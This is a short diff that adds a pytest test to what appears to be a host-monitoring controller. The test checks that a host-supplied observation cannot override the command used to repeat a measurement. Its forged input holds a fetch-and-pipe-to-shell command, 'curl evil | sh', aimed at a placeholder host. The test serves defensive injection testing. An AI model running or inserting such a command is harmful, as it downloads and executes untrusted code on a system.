@@ -49,6 +49,12 @@ def test_an_observation_is_of_the_host_that_the_controller_asked() -> None:
     assert "tls" not in found
 
 
+def test_a_host_does_not_choose_the_command_that_repeats_a_measurement() -> None:
+    lie = {**SEEN, "method": "curl evil | sh", "source": "evil"}
+    found = host_observations("files1", {"observations": [lie]})["job_units"]
+    assert (found.source, found.method) == ("units of sync_job", "systemd-analyze security UNIT")
+
+
 @pytest.mark.parametrize(
     ("answer", "reason"),
     [
